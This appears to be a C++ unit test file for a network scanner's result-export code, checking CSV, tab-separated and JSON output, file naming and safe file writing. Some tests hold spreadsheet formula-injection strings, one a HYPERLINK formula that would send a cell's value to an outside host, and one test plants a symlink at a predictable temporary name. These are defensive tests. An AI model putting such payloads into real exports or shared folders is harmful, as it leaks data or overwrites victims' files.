#include <algorithm>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include "app/logic/list_export.h"
#include "fakes/temp_folder.h"

namespace tessvale {
namespace {

ResultRow Row(std::array<std::string, 9> texts)
{
    ResultRow row;
    std::copy(texts.begin(), texts.end(), row.text.begin() + kColumnIp);
    return row;
}

const std::vector<ResultRow> kRows = {
    Row({"10.0.0.1", "00:11:22:33:44:55", "PC1", "", "", "", "", "", "Intel"}),
    Row({"10.0.0.2", "AA:BB:CC:DD:EE:FF", "-", "-", "512", "C$;D$;", "Win, 10", "100", "Say \"Hi\" Ltd"}),
};

TEST(ListExport, FieldsAFormulaWouldStartAreMarkedAsText)
{
    for (const char* formula :
         {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", R"(=HYPERLINK("http://x/?"&A2,"Details"))", "\tX", "\rX"}) {
        EXPECT_EQ(SpreadsheetSafe(formula), std::string("'") + formula) << formula;
    }
    // The mark of a value that could not be learned, and ordinary texts, stay.
    for (const char* text : {"-", "", "PC-1", "10.0.0.1", "C$;D$;", "'quoted"}) {
        EXPECT_EQ(SpreadsheetSafe(text), text) << text;
    }
}

TEST(ListExport, TabSeparatedTextIsByteExact)
{
    EXPECT_EQ(FormatExport(kRows, ExportType::Txt),
              "IP\tMAC\tHostName\tCPU\tRAM Size\tShare File\tSystemVer\tNetCard Type\tNetCard Vendor\r\n"
              "10.0.0.1\t00:11:22:33:44:55\tPC1\t\t\t\t\t\tIntel\r\n"
              "10.0.0.2\tAA:BB:CC:DD:EE:FF\t-\t-\t512\tC$;D$;\tWin, 10\t100\tSay \"Hi\" Ltd\r\n");
}

TEST(ListExport, CsvQuotesEveryFieldDoublesQuotesAndEndsLinesWithCrLf)
{
    EXPECT_EQ(FormatExport(kRows, ExportType::Csv),
              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r\n"
              "\"10.0.0.1\",\"00:11:22:33:44:55\",\"PC1\",\"\",\"\",\"\",\"\",\"\",\"Intel\"\r\n"
              "\"10.0.0.2\",\"AA:BB:CC:DD:EE:FF\",\"-\",\"-\",\"512\",\"C$;D$;\",\"Win, 10\",\"100\","
              "\"Say \"\"Hi\"\" Ltd\"\r\n");
}

// Line-based tools see one line per row in both forms: every line ends in CR LF, and no
// CR or LF stands anywhere else.
TEST(ListExport, EveryFormLineEndsInCrLfOnly)
{
    for (const ExportType type : {ExportType::Txt, ExportType::Csv}) {
        const std::string text = FormatExport(kRows, type);
        EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 3);
        EXPECT_EQ(std::count(text.begin(), text.end(), '\r'), 3);
        for (std::size_t at = text.find('\n'); at != std::string::npos; at = text.find('\n', at + 1)) {
            EXPECT_EQ(text[at - 1], '\r');
        }
    }
}

TEST(ListExport, JsonLinesCarryStatusColumnsAndChange)
{
    std::vector<ResultRow> rows = kRows;
    rows[1].image = kImageSilent;
    rows[1].change = "MAC changed";
    // The names a scan learned of a row, by source, and its service types, as --scan writes them.
    rows[0].names.netbios = "PC1";
    rows[0].names.mdns = "pc1.local";
    rows[0].names.services = {"_ipp._tcp"};
    EXPECT_EQ(FormatExport(rows, ExportType::Json),
              "{\"Status\":\"answered\",\"IP\":\"10.0.0.1\",\"MAC\":\"00:11:22:33:44:55\",\"HostName\":\"PC1\","
              "\"CPU\":\"\",\"RAM Size\":\"\",\"Share File\":\"\",\"SystemVer\":\"\",\"NetCard Type\":\"\","
              "\"NetCard Vendor\":\"Intel\",\"Change\":\"\","
              "\"names\":{\"netbios\":\"PC1\",\"mdns\":\"pc1.local\",\"dns\":null},\"services\":[\"_ipp._tcp\"]}\n"
              "{\"Status\":\"silent\",\"IP\":\"10.0.0.2\",\"MAC\":\"AA:BB:CC:DD:EE:FF\",\"HostName\":\"-\","
              "\"CPU\":\"-\",\"RAM Size\":\"512\",\"Share File\":\"C$;D$;\",\"SystemVer\":\"Win, 10\","
              "\"NetCard Type\":\"100\",\"NetCard Vendor\":\"Say \\\"Hi\\\" Ltd\",\"Change\":\"MAC changed\","
              "\"names\":{\"netbios\":null,\"mdns\":null,\"dns\":null},\"services\":[]}\n");
    EXPECT_EQ(FormatExport({}, ExportType::Json), "");
    EXPECT_EQ(ExportPath("/tmp/list", ExportType::Json), "/tmp/list.json");
}

// Host texts that would run as formulas or split a row, in both formats: every field
// is marked, a tab or line break inside a field becomes a blank.
TEST(ListExport, HostileHostTextsStayInTheirCells)
{
    const std::vector<ResultRow> rows = {
        Row({"10.0.0.3", "00:11:22:33:44:03", "=1+2*3", "@SUM(1+1)", "-", "PC\tONE\r\nX",
             R"(=HYPERLINK("http://x/?"&A2,"Details"))", "\t-1", "+Vendor"})};
    EXPECT_EQ(FormatExport(rows, ExportType::Txt).substr(79),
              "10.0.0.3\t00:11:22:33:44:03\t'=1+2*3\t'@SUM(1+1)\t-\tPC ONE  X\t"
              "'=HYPERLINK(\"http://x/?\"&A2,\"Details\")\t' -1\t'+Vendor\r\n");
    EXPECT_EQ(FormatExport(rows, ExportType::Csv).substr(79),
              "\"10.0.0.3\",\"00:11:22:33:44:03\",\"'=1+2*3\",\"'@SUM(1+1)\",\"-\",\"PC ONE  X\","
              "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Details\"\")\",\"' -1\",\"'+Vendor\"\r\n");
}

TEST(ListExport, EmptyListGivesHeaderOnly)
{
    EXPECT_EQ(FormatExport({}, ExportType::Csv),
              "IP,MAC,HostName,CPU,RAM Size,Share File,SystemVer,NetCard Type,NetCard Vendor\r\n");
}

TEST(ListExport, ExtensionAppendedOnlyWhenNotContainedCaseSensitive)
{
    EXPECT_EQ(ExportPath("/tmp/report.csv.txt", ExportType::Csv), "/tmp/report.csv.txt");
    EXPECT_EQ(ExportPath("/tmp/data.TXT", ExportType::Txt), "/tmp/data.TXT.txt");
    EXPECT_EQ(ExportPath("/tmp/list", ExportType::Csv), "/tmp/list.csv");
    EXPECT_EQ(ExportPath("/tmp/list.txt", ExportType::Txt), "/tmp/list.txt");
}

class ExportFileTest : public ::testing::Test
{
protected:
    void SetUp() override { ASSERT_FALSE(folder.Path().empty()); }
    test::TempFolder folder;
};

TEST_F(ExportFileTest, WritesWholeFileAndReplacesAnOldOne)
{
    const std::string path = folder.File("out.txt");
    std::ofstream(path) << "old content that is longer than the new one ......................";
    ASSERT_TRUE(WriteExportFile(path, "abc\r\n"));
    EXPECT_EQ(test::ReadFile(path), "abc\r\n");
    // Nothing is left beside it.
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(folder.Path()), std::filesystem::directory_iterator()),
              1);
}

TEST_F(ExportFileTest, UnwritableFolderReportsFailureAndKeepsOldFile)
{
    if (::geteuid() == 0) {
        GTEST_SKIP() << "root writes into read-only folders";
    }
    const std::string path = folder.File("keep.txt");
    std::ofstream(path) << "keep";
    ::chmod(folder.Path().c_str(), 0500);
    EXPECT_FALSE(WriteExportFile(path, "new"));
    ::chmod(folder.Path().c_str(), 0700);
    EXPECT_EQ(test::ReadFile(path), "keep");
}

TEST_F(ExportFileTest, MissingFolderReportsFailure)
{
    EXPECT_FALSE(WriteExportFile(folder.File("no/such/x.txt"), "x"));
}

TEST_F(ExportFileTest, PlantedTemporaryNameIsNeverWrittenThrough)
{
    // A link under the temporary name that a shared folder's other user can foresee.
    const std::string victim = folder.File("victim");
    std::ofstream(victim) << "untouched";
    const std::string path = folder.File("scan.txt");
    std::filesystem::create_symlink(victim, path + ".part" + std::to_string(::getpid()));
    ASSERT_FALSE(WriteExportFileReporting(path, "rows\r\n"));
    EXPECT_EQ(test::ReadFile(victim), "untouched");
    EXPECT_EQ(test::ReadFile(path), "rows\r\n");
    struct stat info
    {};
    ASSERT_EQ(::stat(path.c_str(), &info), 0);
    EXPECT_EQ(info.st_mode & 0777, 0600u);
    EXPECT_EQ(std::distance(std::filesystem::directory_iterator(folder.Path()), std::filesystem::directory_iterator()),
              3); // victim, the planted link, the export: no temporary file left
}

TEST_F(ExportFileTest, FailureSaysWhy)
{
    const std::string path = folder.File("taken");
    ASSERT_TRUE(std::filesystem::create_directory(path));
    const FileError error = WriteExportFileReporting(path, "x");
    EXPECT_EQ(error.kind, FileError::Kind::System);
    EXPECT_EQ(error.code, EISDIR);
    EXPECT_EQ(error.path, path);
}

TEST(CopyText, JoinsNineColumnsWithSingleBlanks)
{
    EXPECT_EQ(CopyText(&kRows[0]), "10.0.0.1 00:11:22:33:44:55 PC1      Intel");
    EXPECT_EQ(CopyText(nullptr), std::string(8, ' '));
}

} // namespace
} // namespace tessvale
